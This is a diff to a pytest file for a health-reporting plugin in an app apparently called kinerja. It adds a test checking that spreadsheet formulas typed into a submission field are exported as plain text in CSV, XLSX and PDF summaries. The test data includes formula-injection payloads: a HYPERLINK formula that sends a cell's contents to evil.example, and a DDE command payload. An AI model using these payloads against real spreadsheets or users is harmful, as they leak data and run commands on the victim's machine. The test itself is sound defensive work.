@@ -3,9 +3,12 @@ Kesehatan plugin end to end (pip-installed, enabled for one agency)."""
 
 from __future__ import annotations
 
+import csv
+import io
 from datetime import date, timedelta
 
 import pytest
+from openpyxl import load_workbook
 
 from kinerja import clock
 from kinerja.db import db
@@ -216,8 +219,40 @@ def test_the_form_on_a_phone_and_the_csv(health, people) -> None:
     csv_text = browser.get("/t/dinkes/reports/LHI/summary?format=csv&by=person").get_data(
         as_text=True
     )
-    assert csv_text.splitlines()[0].startswith("person,submissions,puskesmas,antigen")
+    header, *_lines = csv.reader(io.StringIO(csv_text))
+    assert header[:4] == ["person", "submissions", "puskesmas", "antigen"]
     assert "Staf" in csv_text and "90.0" in csv_text
+
+
+FORMULAS = (
+    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1)",
+    "-2+3",
+)
+
+
+def test_typed_formulas_reach_the_summary_files_as_text(health, people, tenants) -> None:
+    app, client = health
+    staff = token(tenants.a, people.users["staff"])
+    for text in FORMULAS:
+        sent = client.post(f"{LHI}/submissions", headers=staff, json={**REPORT, "puskesmas": text})
+        assert sent.status_code == 201, sent.get_json()
+    browser = app.test_client()
+    sign_in(browser, "admin")
+    page = "/t/dinkes/reports/LHI/summary?by=unit"
+    got = browser.get(page + "&format=csv")
+    assert got.status_code == 200 and got.mimetype == "text/csv"
+    cells = [row[2] for row in list(csv.reader(io.StringIO(got.get_data(as_text=True))))[1:]]
+    assert sorted(cells) == sorted("'" + text for text in FORMULAS)
+    book = browser.get(page + "&format=xlsx")
+    assert book.status_code == 200
+    sheet = load_workbook(io.BytesIO(book.data)).active
+    written = [sheet.cell(row=r, column=3) for r in range(3, 3 + len(FORMULAS))]
+    assert sorted(c.value for c in written) == sorted(FORMULAS)
+    assert all(c.data_type == "s" for c in written)  # strings, never formulas
+    pdf = browser.get(page + "&format=pdf")
+    assert pdf.status_code == 200 and pdf.data.startswith(b"%PDF")
 
 
 def test_another_agency_and_a_disabled_plugin_find_no_form(health, people, tenants) -> None:
